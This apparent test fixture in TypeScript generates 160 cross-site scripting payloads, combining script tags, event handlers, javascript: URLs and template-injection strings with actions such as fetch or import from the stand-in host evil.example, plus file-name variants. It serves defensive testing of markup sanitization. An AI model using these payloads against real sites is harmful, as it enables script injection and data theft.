/** What each payload does when it is run as code; the page must never have these. */
const actions = [
  'alert(1)',
  'window.isBroken=1',
  'top.isBroken=1',
  'fetch(`//evil.example/`)',
  'import(`//evil.example/x.js`)',
];

/** Ways in, with `{}` where the code goes: elements, handlers, addresses, styles, templates, encodings, broken markup. */
const ways = [
  '<script>{}</script>',
  '"><script>{}</script>',
  '</title><script>{}</script>',
  '</textarea><script>{}</script>',
  '<img src=x onerror={}>',
  '"><img src=x onerror="{}">',
  "'><img src=x onerror='{}'>",
  '<svg onload={}>',
  '<svg><script>{}</script></svg>',
  '<svg><animate onbegin={} attributeName=x dur=1s>',
  '<body onload={}>',
  '<input autofocus onfocus={}>',
  '<details open ontoggle={}>x</details>',
  '<video><source onerror={}></video>',
  '<audio src=x onerror={}>',
  '<iframe srcdoc="<script>{}</script>">',
  '<iframe src="javascript:{}">',
  '<object data="javascript:{}">',
  '<a href="javascript:{}" autofocus>x</a>',
  '<form action="javascript:{}"><button autofocus>x',
  '<meta http-equiv=refresh content="0;javascript:{}">',
  '<style>@import "//evil.example/x.css";</style><b onmouseover={}>x',
  '<div style="background:url(javascript:{})">x',
  '<math><mtext><img src onerror={}></mtext></math>',
  '<template><img src onerror={}></template>',
  '<noscript><img src onerror={}></noscript>',
  '<mark onpointerenter={}>x</mark>',
  'javascript:{}',
  '{{constructor.constructor("{}")()}}',
  '${{}}',
  '&lt;img src=x onerror={}&gt;',
  '\\u003cimg src=x onerror={}\\u003e',
] as const;

/** 160 texts that are code in a page that takes text for markup; each begins with a word that a search finds. */
export const payloads: readonly string[] = ways.flatMap((way, nth) =>
  actions.map((action, which) => `word${nth}x${which} ${way.replace('{}', action)}`),
);

/** The same as a file name: no slash, at most 200 bytes. */
export const nameOf = (payload: string): string => `${payload.replaceAll('/', '∕').slice(0, 190)}.wav`;
